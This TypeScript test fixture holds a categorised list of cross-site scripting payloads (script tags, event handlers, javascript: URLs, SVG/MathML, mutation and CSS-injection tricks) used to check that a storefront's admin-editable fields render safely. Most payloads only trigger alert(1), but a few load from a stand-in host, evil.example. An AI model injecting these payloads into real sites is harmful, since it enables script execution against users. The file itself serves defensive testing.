/**
 * Cross-site scripting payloads for every place admins and visitors write text that the store
 * renders (issue 14, R-41): custom-page fields and blocks, footer-page HTML, page elements, hero
 * slides, the announcement bar and chat messages. Each payload, if it ever ran, would call
 * `alert(1)` or set `window.__xss`, so a browser check can tell (e2e/xss.spec.ts); the server
 * tests (page-serving/xss.test.ts) parse the rendered HTML and look for markup that could run.
 *
 * Grouped by family; the same list goes into text, URL and colour fields alike, since an admin
 * form or an older tool may put anything anywhere.
 */

export const xssFamilies = [
  'script-tag',
  'event-handler',
  'dangerous-url',
  'svg-mathml',
  'embedding',
  'style',
  'attribute-breakout',
  'mutation',
  'script-context',
  'css-injection',
] as const;
export type XssFamily = (typeof xssFamilies)[number];

export interface XssPayload {
  family: XssFamily;
  payload: string;
}

const family = (name: XssFamily, payloads: readonly string[]): XssPayload[] =>
  payloads.map((payload) => ({ family: name, payload }));

/** `<script>` itself: case, whitespace, nesting and unclosed tricks. */
const scriptTags = family('script-tag', [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<script >alert(1)</script >',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<script src=data:,alert(1)></script>',
  '<script src="//evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>script>alert(1)<</script>/script>',
  '<script>alert(1)//',
  '<script type="text/javascript">window.__xss=1</script>',
  '<script type="module">window.__xss=1</script>',
  '<script>/*</script><script>*/alert(1)</script>',
]);

/** Event handlers on many elements, including ones that fire with no click. */
const eventHandlers = family('event-handler', [
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x ONERROR=alert(1)>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=x:x onerror=alert`1`>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
  '<a onclick=alert(1) href=#>x</a>',
  '<p onpointerenter=alert(1)>x</p>',
  '<object data=x onerror=alert(1)></object>',
  '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
  '<img src="x" onerror="&#x61;lert(1)">',
  '<body onpageshow=alert(1)>',
  '<style onload=alert(1)></style>',
]);

/** javascript:, vbscript: and data: URLs, bare (for URL fields) and in every URL attribute. */
const dangerousUrls = family('dangerous-url', [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:window.__xss=1',
  '\u0001javascript:alert(1)',
  'javascript&#58;alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
]);

/** SVG and MathML: foreign content, where the HTML parser's rules change. */
const svgMathml = family('svg-mathml', [
  '<svg><script>alert(1)</script></svg>',
  '<svg><script href="data:,alert(1)" /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName="onload" to="alert(1)" />',
  '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1) /></svg>#x" /></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
]);

/** Frames, plugins and head elements that load or navigate. */
const embedding = family('embedding', [
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
  '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<frameset onload=alert(1)>',
  '<portal src="javascript:alert(1)"></portal>',
]);

/** Stylesheets and style attributes: legacy expression(), javascript: in url(), behaviours. */
const styles = family('style', [
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>*{x:expression(alert(1))}</style>',
  '<div style="-moz-binding:url(data:text/xml,x)">x</div>',
  '<style></style><img src=x onerror=alert(1)>',
]);

/** Breaking out of an attribute, a JS string or a template literal the text might land in. */
const attributeBreakouts = family('attribute-breakout', [
  '"><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  "'-alert(1)-'",
  '";alert(1);//',
  '`-alert(1)-`',
  '${alert(1)}',
  '"autofocus onfocus=alert(1) x="',
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
]);

/** Mutation XSS: markup that parses harmlessly once and dangerously after being re-serialised. */
const mutations = family('mutation', [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
  '<style><img title="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<a title="a&#x3C;/a&#x3E;&#x3C;img src=x onerror=alert(1)&#x3E;">x</a>',
  '<plaintext><img src=x onerror=alert(1)>',
]);

/** Aimed at the server-rendered state blob (JSON in a script element) and inline scripts. */
const scriptContext = family('script-context', [
  '</script><script>alert(1)</script>',
  '</SCRIPT><script>alert(1)</script>',
  '</script ><img src=x onerror=alert(1)>',
  '<!--<script>',
  '<!--<script></script><script>alert(1)</script>-->',
  '\u2028alert(1)\u2029',
  '"}]}</script><script>alert(1)</script>',
  '\\u003c/script\\u003e<script>alert(1)</script>',
  '</script/x><svg onload=alert(1)>',
  '"};alert(1);//',
  '\u2028</script>\u2029<script>window.__xss=1</script>',
]);

/** Colour fields written into style attributes or CSS variables. */
const cssInjection = family('css-injection', [
  'red;}</style><script>alert(1)</script>',
  'red"><script>alert(1)</script>',
  "red'><img src=x onerror=alert(1)>",
  'red;background:url(javascript:alert(1))',
  'expression(alert(1))',
  'red;}body{background:url("javascript:alert(1)")}',
  'var(--x);}</style><img src=x onerror=alert(1)>',
  'red; --primary: url(javascript:alert(1))',
  '#fff" onmouseover="alert(1)',
  'red</style><svg onload=alert(1)>',
]);

export const xssPayloads: readonly XssPayload[] = [
  ...scriptTags,
  ...eventHandlers,
  ...dangerousUrls,
  ...svgMathml,
  ...embedding,
  ...styles,
  ...attributeBreakouts,
  ...mutations,
  ...scriptContext,
  ...cssInjection,
];

/** How many payloads each family has (for the report and the test names). */
export const xssFamilyCounts = Object.fromEntries(
  xssFamilies.map((name) => [name, xssPayloads.filter((p) => p.family === name).length]),
) as Record<XssFamily, number>;

/**
 * About `perSurface` payloads taken evenly across the families, for the browser check
 * (e2e/xss.spec.ts), where each write costs a request and each page a render.
 */
export function xssSample(perSurface: number): XssPayload[] {
  const step = xssPayloads.length / perSurface;
  return Array.from({ length: perSurface }, (_, i) => xssPayloads[Math.floor(i * step)]!);
}
